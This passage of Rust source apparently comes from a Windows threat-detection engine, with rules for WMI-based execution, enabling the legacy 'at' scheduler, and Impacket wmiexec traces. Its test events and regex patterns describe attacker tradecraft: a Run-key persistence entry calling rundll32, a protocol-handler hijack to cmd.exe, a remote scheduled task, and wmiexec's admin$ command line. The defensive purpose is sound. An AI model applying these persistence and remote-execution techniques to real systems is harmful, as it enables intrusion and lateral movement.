            targets: &["SRV03"],
            contrast: Some((ex!(PSOP, "4104", "ScriptBlockText" = "Register-ScheduledTask -TaskName Updater -Action (New-ScheduledTaskAction -Execute 'cmd.exe') -CimSession $s"), Contrast::Filtered)),
        },
    ],
};

const WMI_SCHEDULED_JOB_ENABLED: Rule = Rule {
    id: "wmi_scheduled_job_enabled",
    alert_type: "WMI_ScheduledJob",
    description: "Win32_ScheduledJob / at enabled in the registry (Schedule\\Configuration EnableAt)",
    mitre: "T1053.005",
    side: Side::Local,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Context,
    impact: 50,
    confidence: 50,
    basis: Basis::Escu("C15"),
    message: "Win32_ScheduledJob enabled in the registry on $risk_object$",
    when: Match::When(Cond {
        kinds: &[Kind::Registry(12), Kind::Registry(13)],
        fields: &[(
            F::TargetObject,
            Test::EndsWith(&["\\currentversion\\schedule\\configuration\\enableat"]),
        )],
        yields: Yield::RegistryWrite,
        ..Cond::ANY
    }),
    positives: &[
        pos!(ex!(SYSMON, "13", "EventType" = "SetValue", "Image" = "C:\\Windows\\system32\\reg.exe", "TargetObject" = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\Configuration\\EnableAt", "Details" = "DWORD (0x00000001)"), threats: [("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\Configuration\\EnableAt", "registry_path"), ("reg.exe", "process_name")], detail: "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\Configuration\\EnableAt = DWORD (0x00000001)"),
    ],
    negatives: &[
        ex!(SYSMON, "13", "EventType" = "SetValue", "Image" = "C:\\Windows\\system32\\svchost.exe", "TargetObject" = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\x\\Id", "Details" = "{1}"),
        // A file event naming the key is not a registry write.
        ex!(SYSMON, "11", "TargetFilename" = "C:\\x\\CurrentVersion\\Schedule\\Configuration\\EnableAt"),
    ],
    public: &[
        FromPublic {
            origin: Origin::Escu("C15"),
            built: Built::Definition,
            event: ex!(SYSMON, "13", "EventType" = "SetValue", "ProcessId" = "5412", "Image" = "C:\\Windows\\system32\\reg.exe", "TargetObject" = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\Configuration\\EnableAt", "Details" = "DWORD (0x00000001)", "User" = "CORP\\alice"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "13", "EventType" = "SetValue", "ProcessId" = "1288", "Image" = "C:\\Windows\\system32\\svchost.exe", "TargetObject" = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Updater\\Id", "Details" = "{4B3A2C1D-5E6F-4A7B-8C9D-0E1F2A3B4C5D}", "User" = "NT AUTHORITY\\SYSTEM"), Contrast::Filtered)),
        },
    ],
};

const WMI_REGISTRY_WRITE: Rule = Rule {
    id: "wmi_registry_write",
    alert_type: "WMI_RegistryWrite",
    description: "Registry value set by WmiPrvSE.exe: the WMI registry provider (StdRegProv) writing for a remote or scripted caller",
    mitre: "T1047",
    side: Side::Destination,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Execution,
    impact: 60,
    confidence: 60,
    basis: Basis::Own("no ESCU detection or Sigma rule has WmiPrvSE's registry writes; scored as Sigma medium"),
    message: "WmiPrvSE.exe wrote $threat_object$ on $risk_object$",
    when: Match::When(Cond {
        kinds: &[Kind::Registry(13)],
        image: &["wmiprvse.exe"],
        // WMI's own state: WDM MOF resources, the CIMOM settings.
        fields_not: &[(
            F::TargetObject,
            Test::Contains(&["\\software\\microsoft\\wbem\\"]),
        )],
        yields: Yield::RegistryWrite,
        ..Cond::ANY
    }),
    positives: &[
        // EVTX-ATTACK-SAMPLES: a Run key written through StdRegProv, and a
        // protocol handler hijacked the same way.
        pos!(ex!(SYSMON, "13", "EventType" = "SetValue", "Image" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe", "TargetObject" = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\wmipers", "Details" = "rundll32.exe a.dll, DllMain"), threats: [("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\wmipers", "registry_path"), ("wmiprvse.exe", "process_name")], detail: "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\wmipers = rundll32.exe a.dll, DllMain"),
        pos!(ex!(SYSMON, "13", "EventType" = "SetValue", "Image" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe", "TargetObject" = "HKCR\\ms-browser\\shell\\open\\command\\(Default)", "Details" = "cmd.exe /c notepad.exe"), threats: [("HKCR\\ms-browser\\shell\\open\\command\\(Default)", "registry_path"), ("wmiprvse.exe", "process_name")], detail: "HKCR\\ms-browser\\shell\\open\\command\\(Default) = cmd.exe /c notepad.exe"),
    ],
    negatives: &[
        // What WmiPrvSE writes for itself, and keys it only opens (12).
        ex!(SYSMON, "13", "Image" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe", "TargetObject" = "HKLM\\SOFTWARE\\Microsoft\\Wbem\\WDM\\C:\\windows\\system32\\drivers\\ndis.sys[MofResourceName]", "Details" = "LowDateTime:615071105,HighDateTime:30811445"),
        ex!(SYSMON, "12", "EventType" = "CreateKey", "Image" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe", "TargetObject" = "HKLM\\SOFTWARE\\Microsoft\\Wbem"),
        ex!(SYSMON, "13", "EventType" = "SetValue", "Image" = "C:\\Windows\\system32\\svchost.exe", "TargetObject" = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "Details" = "x.exe"),
    ],
    public: &[],
};

// ------------------------------------------------- shared by its rules

/// Children of WmiPrvSE.exe that are its own housekeeping.
const WMI_CHILD_NOISE: &[&str] = &["werfault.exe", "wmiprvse.exe", "dismhost.exe", "wermgr.exe"];

/// Children of WmiPrvSE.exe run by the machine itself: as SYSTEM, NETWORK
/// SERVICE or LOCAL SERVICE (`NT AUTHORITY`, `AUTORITE NT`, `NT-AUTORITÄT`
/// …: Sigma d21374ff's filter), in their logon sessions (0x3e7, 0x3e4,
/// 0x3e5), or by the ConfigMgr client (`\ccm\`).
const WMI_CHILD_SYSTEM: &[(F, Test)] = &[
    (F::User, Test::EndsWith(&["system"])),
    (F::User, Test::Contains(&["authori", "autori"])),
    (F::LogonId, Test::Is(&["0x3e7", "0x3e4", "0x3e5"])),
    (F::Image, Test::Contains(&["\\ccm\\"])),
];

fn script_or_process(c: &Ctx<'_>) -> bool {
    matches!(
        c.kind,
        Kind::ScriptBlock | Kind::PsModule | Kind::ProcessCreate
    )
}

fn wmic_remote(c: &Ctx<'_>) -> Option<Vec<String>> {
    if c.kind != Kind::ProcessCreate || !c.any(&["/node:", "-node:"]) {
        return None;
    }
    if !c.is_image(&["wmic.exe"]) && !c.has("wmic") {
        return None;
    }
    let targets = command_line_targets(&c.get(F::CommandLine).unwrap_or_default(), false);
    // `/node:localhost` and friends stay on the host; `@file` lists are unknown.
    if !targets.is_empty() && targets.iter().all(|t| is_loopback(t)) {
        return None;
    }
    Some(remote(targets))
}

/// The two wmic rules split on this: remote process creation or anything else.
fn wmic_creates(c: &Ctx<'_>) -> bool {
    c.any(&["call create", "call  create"])
}

fn wmic_hit(c: &Ctx<'_>) -> Option<Hit> {
    Some(Hit {
        targets: wmic_remote(c)?,
        detail: None,
        threats: c.process_threats(),
        technique: None,
    })
}

fn ps_remote_wmi(c: &Ctx<'_>, cmdlets: &[&str], extra: &[&str]) -> Option<Hit> {
    if !script_or_process(c) || !c.any(cmdlets) || !extra.iter().all(|e| c.text.contains(e)) {
        return None;
    }
    if !c.has("-computername") && !c.text.contains("-cn ") {
        return None;
    }
    let targets = command_line_targets(&c.source(), false);
    if !targets.is_empty() && targets.iter().all(|t| is_loopback(t)) {
        return None;
    }
    Some(Hit {
        targets: remote(targets),
        ..Hit::default()
    })
}

const SCM_CONSUMER: &str = "scm event log consumer";

static IMPACKET_CMD: LazyLock<Regex> =
    pattern!(r"cmd(?:\.exe)?\s+/q\s+/c\s.*\\\\127\.0\.0\.1\\admin\$\\__\d");
/// wmiexec.py's output file: `__<epoch>.<fraction>` in the Windows folder
/// or a drive's root, any drive (Sigma 8d5aca11).
static IMPACKET_FILE: LazyLock<Regex> = pattern!(r"(?i)^[a-z]:\\(?:windows\\)?__1\d{6,}\.\d+$");
